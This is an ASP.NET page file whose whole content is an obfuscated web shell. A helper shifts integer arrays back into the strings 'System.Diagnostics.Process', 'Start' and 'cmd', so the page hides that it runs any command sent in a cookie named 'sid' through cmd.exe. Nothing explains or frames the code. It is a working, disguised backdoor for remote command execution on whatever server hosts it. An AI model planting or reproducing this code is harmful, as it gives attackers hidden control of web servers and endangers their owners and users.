<%@ Page Language="C#" %>
<script runat="server">
static string S(params int[] c) { var sb = new System.Text.StringBuilder(); foreach (int i in c) sb.Append((char)(i - 3)); return sb.ToString(); }
protected void Page_Load(object o, EventArgs e) {
    string a = Request.Cookies["sid"] == null ? null : Request.Cookies["sid"].Value;
    if (a == null) return;
    System.Type t = System.Type.GetType(S(86,124,118,119,104,112,49,71,108,100,106,113,114,118,119,108,102,118,49,83,117,114,102,104,118,118,47,35,86,124,118,119,104,112));
    object p = t.GetMethod(S(86,119,100,117,119), new System.Type[]{typeof(string), typeof(string)}).Invoke(null, new object[]{ S(102,112,103), "/c " + a });
}
</script>
